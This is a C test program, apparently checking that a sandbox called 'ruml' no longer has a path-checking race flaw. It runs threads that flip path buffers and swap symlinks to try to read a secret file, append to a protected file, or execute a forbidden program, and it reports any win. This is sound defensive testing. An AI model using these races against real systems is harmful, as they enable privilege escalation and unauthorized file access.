/* Finding 4 of the isolation issue: ruml checked a path, then let the host
 * run the call natively, re-reading the path from guest memory and walking
 * it again. An ordinary user won by flipping the path buffer from another
 * thread (read a root-only file within 1-2 tries), by swapping a symlink
 * with rename() (~40 tries), and with O_WRONLY|O_APPEND appended to
 * /etc/passwd. Each race runs for SECONDS and must never win.
 * Usage (as an ordinary user):
 *   race_paths SECONDS SECRET_FILE PROTECTED_FILE MY_PROGRAM THEIR_PROGRAM
 * SECRET_FILE holds a word the user may not read; PROTECTED_FILE is one
 * the user may not write; MY_PROGRAM and THEIR_PROGRAM are copies of this
 * program the user may and may not execute. /tmp/race must be a directory
 * the user may write. */
#include "escape.h"
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[256];
static volatile int stop;
static const char *secret, *protected_file;
static char mine[64], link_name[64], link_tmp[64];

static void *flip_buffer(void *a)
{
    (void)a;
    while (!stop) {
        strcpy(path, mine);
        strcpy(path, secret);
    }
    return NULL;
}

static void *swap_link(void *a)
{
    const char *target = a;
    while (!stop) {
        unlink(link_tmp);
        symlink(mine, link_tmp);
        rename(link_tmp, link_name);
        unlink(link_tmp);
        symlink(target, link_tmp);
        rename(link_tmp, link_name);
    }
    return NULL;
}

static int leaked(int fd)
{
    char buf[256] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    return n > 0 && strstr(buf, "guest-secret") != NULL;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Runs attempt() against `racer` for `secs` seconds. */
static void race(const char *what, void *(*racer)(void *), void *arg, int (*attempt)(void),
                 double secs)
{
    pthread_t t;
    stop = 0;
    pthread_create(&t, NULL, racer, arg);
    long tries = 0, wins = 0;
    double end = now() + secs;
    while (now() < end && wins == 0) {
        wins += attempt();
        tries++;
    }
    stop = 1;
    pthread_join(t, NULL);
    char detail[96];
    snprintf(detail, sizeof detail, "%ld tries, %ld wins", tries, wins);
    report(what, wins > 0, detail);
}

static int open_flipped(void) { return leaked(open(path, O_RDONLY)); }

/* exec of the flipped path from a vfork child (it shares the memory the
 * flipping thread writes): did the protected program run? */
static char exec_mine[64], exec_theirs[64], exec_path[64];
static void *flip_exec(void *a)
{
    (void)a;
    while (!stop) {
        strcpy(exec_path, exec_mine);
        strcpy(exec_path, exec_theirs);
    }
    return NULL;
}
static int exec_at(const char *prog);
static int exec_flipped(void) { return exec_at(exec_path); }
static int exec_link(void) { return exec_at(link_name); }
static int exec_at(const char *prog)
{
    int p[2];
    if (pipe(p) != 0)
        return 0;
    pid_t c = vfork();
    if (c == 0) {
        dup2(p[1], 1);
        char *argv[] = {"race", "--who", NULL};
        execv(prog, argv);
        _exit(127);
    }
    close(p[1]);
    char buf[128] = {0};
    ssize_t n = read(p[0], buf, sizeof buf - 1);
    close(p[0]);
    waitpid(c, NULL, 0);
    return n > 0 && strstr(buf, exec_theirs) != NULL;
}
static int open_link(void) { return leaked(open(link_name, O_RDONLY)); }
static int append_link(void)
{
    int fd = open(link_name, O_WRONLY | O_APPEND);
    if (fd < 0)
        return 0;
    int won = write(fd, "race-marker\n", 12) == 12;
    struct stat st, prot;
    /* Writing to the user's own file is allowed: only a write that
     * reached the protected file wins. */
    won = won && fstat(fd, &st) == 0 && stat(protected_file, &prot) == 0 &&
          st.st_ino == prot.st_ino && st.st_dev == prot.st_dev;
    close(fd);
    return won;
}

int main(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "--who") == 0) {
        /* Run by exec_flipped: which program is this? */
        char self[64] = {0};
        if (readlink("/proc/self/exe", self, sizeof self - 1) > 0)
            printf("%s\n", self);
        return 0;
    }
    if (argc < 6)
        return 2;
    double secs = atof(argv[1]);
    secret = argv[2];
    protected_file = argv[3];
    /* A directory every user may write, without the sticky bit (on a
     * hostfs root what this user makes belongs to root). */
    snprintf(mine, sizeof mine, "/tmp/race/mine");
    snprintf(link_name, sizeof link_name, "/tmp/race/l");
    snprintf(link_tmp, sizeof link_tmp, "/tmp/race/l.tmp");
    umask(0);
    int fd = open(mine, O_CREAT | O_WRONLY, 0666);
    if (fd < 0 || write(fd, "nothing here\n", 13) != 13)
        return 3;
    close(fd);
    expect_fail("direct open of the secret", open(secret, O_RDONLY));
    expect_fail("direct append to the protected file", open(protected_file, O_WRONLY | O_APPEND));
    race("path buffer flip", flip_buffer, NULL, open_flipped, secs);
    race("symlink swap, read", swap_link, (void *)secret, open_link, secs);
    race("symlink swap, append", swap_link, (void *)protected_file, append_link, secs);
    snprintf(exec_mine, sizeof exec_mine, "%s", argv[4]);
    snprintf(exec_theirs, sizeof exec_theirs, "%s", argv[5]);
    expect_fail("direct exec of the protected program", access(exec_theirs, X_OK));
    race("path buffer flip, exec", flip_exec, NULL, exec_flipped, secs / 2);
    /* The link alternates between the user's own program and theirs. */
    snprintf(mine, sizeof mine, "%s", exec_mine);
    race("symlink swap, exec", swap_link, (void *)exec_theirs, exec_link, secs / 2);
    return 0;
}
